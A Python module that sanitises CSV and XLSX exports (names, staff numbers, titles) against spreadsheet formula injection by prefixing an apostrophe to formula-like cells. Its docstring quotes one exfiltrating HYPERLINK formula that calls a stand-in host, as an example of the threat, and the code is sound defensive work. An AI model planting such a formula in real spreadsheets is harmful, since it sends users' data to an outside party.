"""Spreadsheet files (CSV and XLSX) whose text cells can never run as formulas.

Exports carry names, staff numbers, titles and ruleset names that anyone may
have typed or imported. Excel, WPS and LibreOffice read a cell starting with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a
formula, so an imported title like ``=HYPERLINK("http://x?"&B3,"点此")`` would
send a teacher's data away on one click. Every export goes through this module:
each text cell that starts with one of those characters gets a leading
apostrophe (shown as plain text by every spreadsheet, OWASP's advice), and
XLSX text cells are stored as strings, never as formulas. Numbers and dates
pass through untouched.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value a spreadsheet shows as text: formula-like strings get an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through safe_cell."""
    return [safe_cell(v) for v in values]


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file, UTF-8 with a byte-order mark so Excel reads the Chinese.

    Values are written with str(); callers format dates as they want them shown.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow(safe_row(row))
    return buffer.getvalue().encode("utf-8-sig")


def new_sheet(title: str) -> tuple[Workbook, Worksheet]:
    """A workbook with one sheet of that title (sheet titles are never evaluated)."""
    book = Workbook()
    sheet = book.active
    sheet.title = title
    return book, sheet


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append a row whose text cells are stored as strings, never formulas."""
    row = safe_row(values)
    sheet.append(row)
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            # openpyxl infers "f" (formula) for any string starting with "=";
            # safe_cell already prevents that, this makes it explicit.
            cell.data_type = "s"


def xlsx_bytes(book: Workbook) -> bytes:
    """The workbook as the bytes of an .xlsx file."""
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
